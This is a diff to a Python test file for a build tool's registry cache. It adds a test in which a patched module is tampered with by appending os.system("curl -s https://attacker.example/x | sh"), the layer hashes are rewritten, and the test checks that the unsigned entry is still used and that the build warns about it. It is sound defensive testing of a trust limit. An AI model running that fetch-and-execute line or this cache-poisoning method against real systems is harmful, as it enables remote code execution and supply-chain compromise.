@@ -11,6 +11,7 @@ digest its cache-less build gives. ``[cache] require_signed`` refuses reading a 
 
 from __future__ import annotations
 
+import hashlib
 import json
 import shutil
 import tarfile
@@ -133,20 +134,10 @@ def test_a_record_that_puts_the_modules_under_etc_is_a_miss(project, capsys, tmp
     assert record["site_dir"] == SITE
 
     # the writer's layer, its files moved to etc/vllm/, written again as kiln writes layers
-    layer_info = record["layers"][0]
-    blob = _blob(cache, repo, layer_info["digest"])
-    source = tmp_path / "entry-layer.tar.gz"
-    source.write_bytes(blob)
-    with tarfile.open(source, "r:gz") as tar:
-        files = {m.name.replace(f"{SITE}/", "etc/", 1): tar.extractfile(m).read()
-                 for m in tar.getmembers() if m.isfile() and "/.wh." not in f"/{m.name}"}
+    layer, uploaded, files = _moved_layer(cache, repo, record, tmp_path,
+                                          rename=lambda name: name.replace(f"{SITE}/", "etc/", 1))
     assert files and all(name.startswith("etc/vllm/") for name in files)
-    moved = write_layer(LayerContents(files, tuple(layer_info["removals"]), layer_info["created_by"]),
-                        tmp_path / "moved")
-    uploaded = _put_blob(cache, repo, moved.path.read_bytes())
-    assert uploaded["digest"] == moved.digest
-    lying = {**record, "site_dir": "etc",
-             "layers": [{**layer_info, "digest": moved.digest, "diff_id": moved.diff_id, "size": moved.size}]}
+    lying = {**record, "site_dir": "etc", "layers": [layer]}
     config = _put_blob(cache, repo, json.dumps(lying).encode())
     _put_entry(cache, repo, entry_tag(PATCHED, key), {**entry, "config": {**entry["config"], **config},
                                                        "layers": [{**entry["layers"][0], **uploaded}]})
@@ -194,3 +185,57 @@ def test_require_signed_refuses_unsigned_entries(project, capsys, tmp_path, monk
     assert unsigned["cache"]["hit"] and len(patch_runs) == runs + 1
     [line] = [w for w in unsigned["warnings"] if "using unsigned" in w]
     assert line.startswith(f"build cache: using unsigned patched entry from {cache_repo}:"), line
+
+
+def _moved_layer(cache, repo: str, record: dict, tmp_path, rename=lambda name: name, edit=lambda name, data: data):
+    """The entry's layer, each file renamed and edited, written again as kiln writes layers and
+    uploaded: (its record entry, its descriptor)."""
+    layer_info = record["layers"][0]
+    source = tmp_path / "entry-layer.tar.gz"
+    source.write_bytes(_blob(cache, repo, layer_info["digest"]))
+    with tarfile.open(source, "r:gz") as tar:
+        files = {rename(m.name): edit(m.name, tar.extractfile(m).read())
+                 for m in tar.getmembers() if m.isfile() and "/.wh." not in f"/{m.name}"}
+    layer = write_layer(LayerContents(files, tuple(layer_info["removals"]), layer_info["created_by"]),
+                        tmp_path / "moved")
+    uploaded = _put_blob(cache, repo, layer.path.read_bytes())
+    assert uploaded["digest"] == layer.digest
+    return {**layer_info, "digest": layer.digest, "diff_id": layer.diff_id, "size": layer.size}, uploaded, files
+
+
+def test_an_unsigned_entry_whose_patched_bytes_were_rewritten_is_used_and_the_build_says_unsigned(
+        project, capsys, tmp_path, monkeypatch, patch_runs, start_registry):
+    """The limit of an unsigned cache (``docs/TRUST.md``): a patched module with ``os.system(...)``
+    added, the layer rebuilt and the record's sha256 of it rewritten to match, is consistent with
+    everything kiln can know without the entry. It is used; the build says it used an unsigned
+    entry, in one line. (Signed and read with ``--cache-key``, such an entry is a miss:
+    ``tests/build/test_regcache_e2e.py::test_cache_key_takes_only_entries_its_key_signed``.)"""
+    cache = start_registry("plain")
+    repo = f"{project.dest}-cache"
+    _fresh_runner(monkeypatch, tmp_path, "writer")
+    code, first, err = project.build(capsys, "--cache-to", f"{cache.host}/{repo}", "--insecure-registry", cache.host)
+    assert code == 0, err
+    key = _key(first)
+    entry = _entry(cache, repo, key)
+    record = json.loads(_blob(cache, repo, entry["config"]["digest"]))
+    evil = b'\nimport os\nos.system("curl -s https://attacker.example/x | sh")\n'
+    layer, uploaded, files = _moved_layer(cache, repo, record, tmp_path, edit=lambda name, data: data + evil)
+    prefix = f"{SITE}/vllm/"
+    after = {name[len(prefix):]: hashlib.sha256(data).hexdigest() for name, data in files.items()}
+    outcomes = [{**o, "files": {rel: {**v, "after": after.get(rel, v["after"])} for rel, v in o["files"].items()}}
+                if "files" in o else o for o in record["outcomes"]]
+    lying = {**record, "outcomes": outcomes, "layers": [layer]}
+    config = _put_blob(cache, repo, json.dumps(lying).encode())
+    _put_entry(cache, repo, entry_tag(PATCHED, key), {**entry, "config": {**entry["config"], **config},
+                                                       "layers": [{**entry["layers"][0], **uploaded}]})
+
+    _fresh_runner(monkeypatch, tmp_path, "reader")
+    runs = len(patch_runs)
+    code, used, err = project.build(capsys, "--cache-from", f"{cache.host}/{repo}", "--insecure-registry", cache.host)
+    assert code == 0, err
+    assert used["cache"]["hit"] and len(patch_runs) == runs  # not detectable: used
+    assert used["manifest_digest"] != first["manifest_digest"]
+    assert not _refused(used), used["warnings"]
+    [line] = [w for w in used["warnings"] if "using unsigned" in w]
+    assert line.startswith(f"build cache: using unsigned patched entry from {cache.host}/{repo}:"), line
+    assert "can change its patched bytes undetected" in line and "--cache-key" in line
